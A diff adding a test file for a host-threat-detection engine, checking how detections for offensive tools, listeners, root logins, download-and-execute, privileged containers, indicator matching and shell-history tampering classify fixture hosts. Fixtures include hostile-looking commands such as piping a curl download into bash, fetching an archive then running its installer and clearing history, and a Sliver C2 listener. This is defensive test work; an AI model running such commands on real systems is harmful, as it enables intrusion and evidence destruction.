@@ -1,0 +1,96 @@
+// What the tenth blind corpus taught (docs/engine.md#blind-corpora): activity that is a host's declared or documented
+// work is a note, not a finding; and indicators named the way reports name them are looked for.
+import { test } from "tap";
+import type { DetectionHit } from "../../shared/engine/detections/detection.js";
+import { getDetection, routeQuery, extractEntities, type HostData, type QueryEntities } from "../../shared/engine/index.js";
+import { host, proc, sock } from "./helpers.js";
+
+const ctx = (partial: Partial<QueryEntities> = {}) => ({ entities: { ips: [], sha256: [], advisories: [], users: [], ports: [], paths: [], domains: [], tags: {}, ...partial } });
+const hits = (id: string, h: HostData, entities: Partial<QueryEntities> = {}): DetectionHit[] => getDetection(id)?.evaluate(h, ctx(entities)) ?? [];
+const findings = (id: string, h: HostData, entities: Partial<QueryEntities> = {}): DetectionHit[] => hits(id, h, entities).filter((x) => x.kept_by === undefined);
+
+test("a host its tags declare an offensive-security host keeps its tools and listeners as notes", async (t) => {
+  const sliver = proc(4100, "sliver-server", "/opt/sliver/sliver-server", "/opt/sliver/sliver-server daemon");
+  const tables = { processes: [sliver], listening_ports: [{ pid: "4100", port: "31337", address: "0.0.0.0", protocol: "6" }] };
+  t.ok(findings("offensive-tool-present", host(tables)).length > 0, "anywhere else Sliver is a finding");
+  t.ok(findings("unexpected-listener", host(tables)).length > 0);
+  const declared: Array<Record<string, string>> = [{ role: "redteam-jumpbox" }, { env: "offsec" }, { owner: "offensive-security" }, { purpose: "Penetration Testing" }];
+  for (const tags of declared) {
+    const h = host(tables, tags);
+    t.same(findings("offensive-tool-present", h), [], JSON.stringify(tags));
+    t.same(findings("unexpected-listener", h), [], JSON.stringify(tags));
+    t.equal(hits("offensive-tool-present", h)[0]?.kept_by, "role:offensive-security");
+  }
+  t.ok(findings("unexpected-listener", host({ processes: [proc(4200, "x", "/tmp/.x/x")], listening_ports: [{ pid: "4200", port: "4444", address: "0.0.0.0", protocol: "6" }] }, { role: "redteam" })).length > 0, "a temp-directory listener stays a finding there");
+  t.ok(findings("offensive-tool-present", host(tables, { role: "web", team: "security-operations" })).length > 0, "a defensive team's tag is no declaration");
+});
+
+test("a scanner's packet socket is a scan, not a backdoor", async (t) => {
+  const nmap = proc(48062, "nmap", "/usr/lib/nmap/nmap", "nmap -sS -sV -p- 10.13.0.0/22");
+  const packet = { pid: "48062", family: "17", protocol: "3", remote_address: "", remote_port: "0" };
+  t.same(findings("packet-socket-backdoor", host({ processes: [nmap], process_open_sockets: [packet] })), []);
+  const renamed = proc(48063, "nmap", "/tmp/nmap", "nmap -sS 10.0.0.0/8");
+  t.ok(findings("packet-socket-backdoor", host({ processes: [renamed], process_open_sockets: [{ ...packet, pid: "48063" }] })).length > 0, "the name alone from a temp directory is not nmap");
+});
+
+test("root logins on a Proxmox VE node from inside the site are its cluster's and administrators' work", async (t) => {
+  const last = (ip: string) => ({ username: "root", host: ip, type: "7", tty: "pts/3", time: "1763802912" });
+  const pve = (ip: string) => host({ last: [last(ip)], deb_packages: [{ name: "pve-manager", version: "8.3.2" }], processes: [proc(900, "pvedaemon", "/usr/bin/pvedaemon", "pvedaemon")] });
+  t.same(findings("remote-root-login", pve("10.91.0.13")), []);
+  t.equal(hits("remote-root-login", pve("10.91.0.13"))[0]?.kept_by, "root-admin:proxmox-ve");
+  t.equal(findings("remote-root-login", pve("45.141.215.88"))[0]?.severity, undefined, "from the internet it stays a finding (the detection's high)");
+  t.equal(findings("remote-root-login", pve("45.141.215.88")).length, 1);
+  t.equal(findings("remote-root-login", host({ last: [last("10.91.0.13")] })).length, 1, "on any other host a root login stays a finding");
+});
+
+test("admin-port connections that are a daemon's or a transfer's work are notes", async (t) => {
+  const at = (p: ReturnType<typeof proc>, remote: string, port: number) => host({ processes: [p], process_open_sockets: [sock(Number(p.pid), remote, port)] });
+  t.same(findings("lateral-admin-connection", at(proc(762, "winbindd", "/usr/sbin/winbindd", "/usr/sbin/winbindd --foreground"), "10.60.0.11", 445)), [], "a domain member's winbindd");
+  t.same(findings("lateral-admin-connection", at(proc(59565, "openvas", "/usr/sbin/openvas", "openvas --scan-start x"), "10.44.6.24", 22)), [], "a vulnerability scanner");
+  t.same(findings("lateral-admin-connection", at(proc(50006, "ssh", "/usr/bin/ssh", "ssh -i /root/.ssh/id_nas -l mirror nas.lan rsync --server -logDtpre.iLsfxC . /volume1/x/"), "10.140.9.40", 22)), [], "rsync over ssh");
+  t.same(findings("lateral-admin-connection", at(proc(61559, "ssh", "/usr/bin/ssh", "/usr/bin/ssh -e none -o BatchMode=yes -o HostKeyAlias=pve-04 root@10.91.0.14 -- pvesm import local-zfs:vm-103-disk-0 zfs -"), "10.91.0.14", 22)), [], "Proxmox storage replication");
+  t.equal(findings("lateral-admin-connection", at(proc(700, "ssh", "/usr/bin/ssh", "ssh admin@10.0.0.5"), "10.0.0.5", 22)).length, 1, "a person's ssh stays");
+  t.equal(findings("lateral-admin-connection", at(proc(701, "winbindd", "/tmp/winbindd", "/tmp/winbindd"), "10.0.0.5", 445)).length, 1, "a daemon's name from a temp directory stays");
+});
+
+test("documented set-ups: packagecloud's repository script, RHEL 7's usernetctl, Zabbix's fping, binfmt's installer, dind's own network", async (t) => {
+  const history = (command: string) => host({ shell_history: [{ uid: "0", command, history_file: "/root/.bash_history", time: "0" }] });
+  const installer = history("curl -L https://packages.gitlab.com/install/repositories/runner/gitlab-runner/script.deb.sh | bash");
+  t.same(findings("download-execute", installer).filter((h) => h.severity !== "info"), [], "GitLab Runner's documented install");
+  const suid = (path: string) => host({ suid_bin: [{ path, username: "root", groupname: "root", permissions: "S" }] });
+  t.same(findings("unexpected-suid", suid("/usr/sbin/usernetctl")), []);
+  t.same(findings("unexpected-suid", suid("/usr/sbin/fping")), []);
+  const binfmt = host({ docker_containers: [{ id: "b1", name: "binfmt-install", image: "tonistiigi/binfmt:qemu-v8.1.5", privileged: "1", state: "exited" }] });
+  t.same(findings("privileged-container", binfmt), []);
+  const unknown = host({ docker_containers: [{ id: "c1", name: "tools", image: "acme/tools:1", privileged: "1", state: "exited" }] });
+  t.match(findings("privileged-container", unknown)[0]?.summary, /ran privileged \(now exited\)/, "an exited container is not said to run");
+  const dind = proc(89610, "dockerd", "/usr/local/bin/dockerd", "dockerd --host=unix:///var/run/docker.sock --host=tcp://0.0.0.0:2375 --tls=false", { cgroup_path: `/system.slice/docker-${"a".repeat(64)}.scope` });
+  t.equal(hits("docker-api-exposed", host({ processes: [dind] }))[0]?.severity, "info", "a CI job's docker:dind: its own network");
+  const onHost = { ...dind, cgroup_path: "/system.slice/docker.service" };
+  t.equal(hits("docker-api-exposed", host({ processes: [onHost] }))[0]?.severity, "high", "the host's own dockerd on 0.0.0.0:2375 without TLS");
+});
+
+test("indicators as reports name them: a snake_case name, an image, an RPM's advisory, a privilege escalation's traces", async (t) => {
+  t.same(extractEntities("any sign of intel_audio on our file servers?").files, ["intel_audio"]);
+  t.same(extractEntities("check authorized_keys, ld_preload, LD_PRELOAD and the process_open_sockets table; allowed_ports=22").files, [], "Linux's own words");
+  t.same(extractEntities("Cado names the image cmd.cat/chattr - is it on any host?").files, ["cmd.cat/chattr"]);
+  const history = host({ shell_history: [{ uid: "0", command: "cd intel_audio", history_file: "/root/.bash_history" }] });
+  t.equal(findings("ioc-match", history, { files: ["intel_audio"] }).length, 1, "found as a word of a command");
+  const image = host({ docker_containers: [{ id: "d1", name: "x", image: "cmd.cat/chattr:latest", command: "chattr" }] });
+  t.equal(findings("ioc-match", image, { files: ["cmd.cat/chattr"] }).length, 1, "the container's image, with a tag");
+  const rocky = (release: string) => host({ rpm_packages: [{ name: "glibc", version: "2.34", release }] });
+  t.equal(findings("vulnerable-package", rocky("60.el9"), { advisories: ["CVE-2023-4911"] })[0]?.severity, "high", "RHEL 9.2's glibc before RHSA-2023:5455");
+  t.same(findings("vulnerable-package", rocky("60.el9_2.7"), { advisories: ["CVE-2023-4911"] }), [], "the fixed build");
+  t.same(findings("vulnerable-package", host({ deb_packages: [{ name: "glibc", version: "2.34-60.el9" }] }), { advisories: ["CVE-2023-4911"] }), [], "an RPM advisory is not read against a Debian package of the same name");
+  const plan = routeQuery("Is the Looney Tunables exploit (CVE-2023-4911) being used on the cluster?", "standard");
+  for (const id of ["vulnerable-package", "unexpected-suid", "sudoers-nopasswd-all", "non-root-uid0"]) t.ok(plan.detection_ids.includes(id), id);
+  t.ok(routeQuery("the ultralytics release was backdoored - is the payload running anywhere?", "standard").detection_ids.includes("exec-from-tmp"), "a payload running");
+});
+
+test("history tampering shows what the same history ran just before it", async (t) => {
+  const line = (command: string) => ({ uid: "0", command, history_file: "/root/.bash_history" });
+  const h = host({ shell_history: [line("ls"), line("curl -o ia.tgz http://x/ia.tgz"), line("cd intel_audio"), line("./setup.sh install"), line("history -c"), line("uptime")] });
+  const hit = findings("history-tampering", h)[0];
+  t.match(hit?.summary, /the 4 commands before it are in the evidence/);
+  t.same(hit?.evidence.map((e) => e.row.command), ["history -c", "ls", "curl -o ia.tgz http://x/ia.tgz", "cd intel_audio", "./setup.sh install"]);
+});
